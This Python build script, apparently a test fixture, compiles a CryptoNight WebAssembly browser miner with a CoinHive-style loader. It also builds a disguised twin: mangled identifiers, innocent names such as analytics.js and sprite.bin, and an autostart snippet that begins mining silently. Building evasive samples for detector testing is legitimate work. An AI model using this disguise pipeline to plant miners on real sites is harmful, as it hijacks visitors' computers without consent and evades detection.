"""Build the test browser miner: pycryptonight's CryptoNight as WebAssembly plus its JS.

Lives in tests/web/miner/, beside the miner's C entry point and JavaScript sources.

Reuses the shared builder (tests/build/cryptonight.py) for the sdist tree (sources, compat
headers, generated Groestl tables) and its cache helpers; compiles its own module because
the miner needs a nonce-scanning entry point, a renamed build, and a fix the shared wasm
build lacks (see src/aesb_shim.c: its module traps with "unreachable" on the first hash).

Outputs (cached under tests/.cache/web-miner, keyed by inputs and toolchain):
- ``cryptonight.wasm`` exporting ``job_blob/job_result/job_scan`` and ``cryptonight_hash``;
- ``renamed.wasm``, the same code exporting only ``a``..``d`` (no names survive -O2);
- ``miner.js``/``worker.js`` (readable, CoinHive API) and their terser-minified renamed
  twins ``analytics.js``/``chunk.js`` with every miner identifier mangled away.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

from tests.build.cache import CACHE_DIR, ToolMissing, digest, is_fresh, mark_fresh, run
from tests.build.cryptonight import CRYPTO_SOURCES, source_tree

SRC = Path(__file__).with_name("src")
OUT = CACHE_DIR / "web-miner"
TESTS = Path(__file__).resolve().parents[2]
TERSER = TESTS / "node_modules" / "terser" / "bin" / "terser"

NAMED = {"EXPORT_BLOB": "job_blob", "EXPORT_RESULT": "job_result", "EXPORT_SCAN": "job_scan"}
RENAMED = {"EXPORT_BLOB": "a", "EXPORT_RESULT": "b", "EXPORT_SCAN": "d"}
_EXTRA = {"EXPORT_DONE": "job_done"}
# Files whose extern declarations of the AES helpers disagree with aesb.c (see aesb_shim.c).
_RENAME_AES = [
    "-Daesb_single_round=mh_aesb_single_round",
    "-Daesb_pseudo_round_mut=mh_aesb_pseudo_round_mut",
]
# Property names of the miner's own API, mangled in the renamed build (protocol fields such
# as "type", "params", "job_id" are quoted in the source and kept: the proxy needs them).
_MANGLE = (
    r"/^(_[a-zA-Z]+|CoinHive|CONFIG|WORKER_URL|WASM_URL|WEBSOCKET_SHARDS|Anonymous|User"
    r"|start|stop|getHashesPerSecond|getTotalHashes|getAcceptedHashes|setThrottle"
    r"|getThrottle|isRunning|hasWASMSupport|didOptOut)$/"
)
AUTOSTART = """
;(function () {
  var c = window.__analytics, H = window.CoinHive;
  if (!c) return;
  H.CONFIG.WEBSOCKET_SHARDS = [[c.e]];
  H.CONFIG.WORKER_URL = c.w;
  H.CONFIG.WASM_URL = c.m;
  H.Anonymous(c.id, { throttle: c.t || 0 }).start();
})();
"""


@dataclass(frozen=True)
class MinerBuild:
    """Paths of the built miner."""

    wasm: Path
    wasm_renamed: Path
    loader: Path
    worker: Path
    loader_min: Path
    worker_min: Path


def _compile(emcc: str, tree: Path, names: dict[str, str], out: Path, keep: bool) -> None:
    objs = OUT / f"obj-{out.stem}"
    objs.mkdir(parents=True, exist_ok=True)
    defines = [f"-D{k}={v}" for k, v in {**names, **_EXTRA}.items()]
    flags = ["-O2", "-std=gnu99", "-DNOASM=1", "-I", str(tree), "-I", str(tree / "crypto")]
    sources = [tree / s for s in CRYPTO_SOURCES] + [tree / "no_cpuid.c"]
    sources += [SRC / "aesb_shim.c", SRC / "miner_entry.c"]
    built = []
    for src in sources:
        extra = _RENAME_AES if src.name in ("cryptonite_hash.c", "cryptolite_hash.c") else []
        obj = objs / (src.stem + ".o")
        run([emcc, *flags, *extra, *defines, "-c", str(src), "-o", str(obj)])
        built.append(str(obj))
    exports = [f"_{v}" for v in names.values()] + (["_cryptonight_hash"] if keep else [])
    run(
        [
            emcc,
            "-O2",
            *built,
            "-sSTANDALONE_WASM",
            "--no-entry",
            "-sINITIAL_MEMORY=33554432",
            f"-sEXPORTED_FUNCTIONS={','.join(exports)}",
            "-o",
            str(out),
        ]
    )


def _worker_source(names: dict[str, str]) -> str:
    text = (SRC / "worker.js").read_text()
    for placeholder, name in names.items():
        text = text.replace(placeholder, name)
    return text


def _terser(source: Path, out: Path, mangle_props: bool) -> None:
    node = shutil.which("node")
    if node is None or not TERSER.exists():
        raise ToolMissing("node and tests/node_modules/terser are needed (npm ci in tests/)")
    args = [node, str(TERSER), str(source), "--compress", "--mangle", "toplevel", "-o", str(out)]
    if mangle_props:
        args[4:4] = ["--mangle-props", f"regex={_MANGLE}"]
    run(args)


def build() -> MinerBuild:
    """Build (or reuse from the cache) every artefact of the test browser miner."""
    emcc = shutil.which("emcc")
    if emcc is None:
        raise ToolMissing("emcc not on PATH (apt-get install emscripten)")
    tree = source_tree()
    OUT.mkdir(parents=True, exist_ok=True)
    result = MinerBuild(
        wasm=OUT / "cryptonight.wasm",
        wasm_renamed=OUT / "renamed.wasm",
        loader=OUT / "miner.js",
        worker=OUT / "worker.js",
        loader_min=OUT / "analytics.js",
        worker_min=OUT / "chunk.js",
    )
    key = digest(
        run([emcc, "--version"]), SRC.glob("*"), (tree / s for s in CRYPTO_SOURCES), Path(__file__)
    )
    if is_fresh(result.wasm, key) and all(
        p.exists() for p in (result.wasm_renamed, result.loader_min, result.worker_min)
    ):
        return result
    _compile(emcc, tree, NAMED, result.wasm, keep=True)
    _compile(emcc, tree, RENAMED, result.wasm_renamed, keep=False)
    shutil.copyfile(SRC / "miner.js", result.loader)
    result.worker.write_text(_worker_source(NAMED))
    bundle = OUT / "analytics.src.js"
    # Self-hosted under innocent paths: no default URL may name the miner either.
    renamed = (SRC / "miner.js").read_text().replace("})(this);", "})(window);")
    renamed = renamed.replace("/lib/cryptonight-worker.js", "/assets/js/chunk.js")
    renamed = renamed.replace("/lib/cryptonight.wasm", "/assets/img/sprite.bin")
    bundle.write_text(renamed + AUTOSTART)
    _terser(bundle, result.loader_min, mangle_props=True)
    renamed_worker = OUT / "chunk.src.js"
    renamed_worker.write_text(_worker_source(RENAMED))
    _terser(renamed_worker, result.worker_min, mangle_props=False)
    mark_fresh(result.wasm, key)
    return result


if __name__ == "__main__":  # manual use: python -m tests.web.miner.build
    print(build())
